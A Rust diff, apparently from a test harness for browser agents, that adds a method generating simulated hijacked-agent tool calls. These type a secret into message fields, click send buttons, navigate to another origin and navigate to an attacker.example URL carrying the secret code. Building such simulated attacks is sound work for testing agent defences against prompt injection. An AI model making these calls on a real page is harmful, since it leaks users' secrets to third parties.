@@ -118,6 +118,37 @@ impl Attack<'_, '_> {
         }
     }
 
+    /// The same without a stray shot: at elements that are on the page, and at addresses that lead somewhere. What comes of
+    /// it with a yes shows what the others are kept from.
+    pub(super) fn aimed(&self, kind: Kind, random: &mut Random) -> Said {
+        let secret = &self.secrets.words;
+        match kind {
+            Kind::TypeHere => {
+                call("browser.type", json!({ "handleId": self.named("Message"), "text": secret }))
+            }
+            Kind::TypeThere => {
+                call("browser.type", json!({ "handleId": self.named("Friend note"), "text": secret }))
+            }
+            Kind::Submit => {
+                let sends = ["Send message", "Tell friends"];
+                let here = |name: &&&str| {
+                    self.view.page.elements.iter().any(|element| element.accessible_name.contains(**name))
+                };
+                let name = sends.iter().find(here).copied().unwrap_or("Join the club");
+                call("browser.click", json!({ "handleId": self.named(name) }))
+            }
+            Kind::OtherHost => {
+                let url = format!("{}/b/{}/", self.origins.theirs, self.case.number);
+                call("browser.navigate", json!({ "url": url }))
+            }
+            Kind::SecretInAddress => {
+                let url = format!("https://attacker.example/{}", self.secrets.code);
+                call("browser.navigate", json!({ "url": url }))
+            }
+            other => self.say(other, random),
+        }
+    }
+
     /// The name of the element that is called so; of another one where there is none.
     fn named(&self, name: &str) -> String {
         let mut elements = self.view.page.elements.iter();
